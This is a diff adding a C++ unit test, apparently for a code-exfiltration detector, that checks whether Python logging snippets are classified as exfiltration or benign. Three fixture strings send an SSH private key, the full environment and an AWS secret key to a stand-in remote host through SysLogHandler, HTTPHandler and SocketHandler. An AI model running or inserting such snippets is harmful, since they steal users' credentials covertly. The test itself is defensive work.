@@ -210,5 +210,37 @@ TEST(CoverageClasses, SdkDownloadsComeFromTheNetwork) {
   for (const auto& c : cases) check(c);
 }
 
+// A record logged goes where the logging system's handlers send it: a
+// secret logged through a handler to another host (syslog, a socket, HTTP,
+// mail) leaves the machine. Handlers on this machine (/dev/log) send nothing.
+TEST(CoverageClasses, LoggingHandlersSendWhatIsLogged) {
+  const Case cases[] = {
+      {"a key logged through a remote SysLogHandler", B,
+       "import logging, logging.handlers, os\nlog = logging.getLogger('x')\n"
+       "log.addHandler(logging.handlers.SysLogHandler(address=('198.51.100.23', 514)))\n"
+       "log.warning(open(os.path.expanduser('~/.ssh/id_rsa')).read())\n",
+       "EXFILTRATION"},
+      {"the environment through HTTPHandler", B,
+       "import logging, logging.handlers, os\nlog = logging.getLogger('x')\n"
+       "log.addHandler(logging.handlers.HTTPHandler('198.51.100.23:8080', '/log', method='POST'))\n"
+       "log.error('env %s', dict(os.environ))\n",
+       "EXFILTRATION"},
+      {"an AWS key through basicConfig's SocketHandler and logging.critical", B,
+       "import logging, logging.handlers, os\n"
+       "logging.basicConfig(handlers=[logging.handlers.SocketHandler('198.51.100.23', 9020)])\n"
+       "logging.critical(os.environ.get('AWS_SECRET_ACCESS_KEY'))\n",
+       "EXFILTRATION"},
+      // Neighbours: the local syslog, and ordinary records to a remote collector.
+      {"a key logged to /dev/log", L,
+       "import logging, logging.handlers\nlog = logging.getLogger('app')\n"
+       "log.addHandler(logging.handlers.SysLogHandler(address='/dev/log'))\nlog.info('started %s', 'worker')\n"},
+      {"service events to a remote syslog", L,
+       "import logging, logging.handlers\nlog = logging.getLogger('app')\n"
+       "log.addHandler(logging.handlers.SysLogHandler(address=('logs.example.com', 514)))\n"
+       "for job in ('a', 'b'):\n    log.info('job %s done', job)\n"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
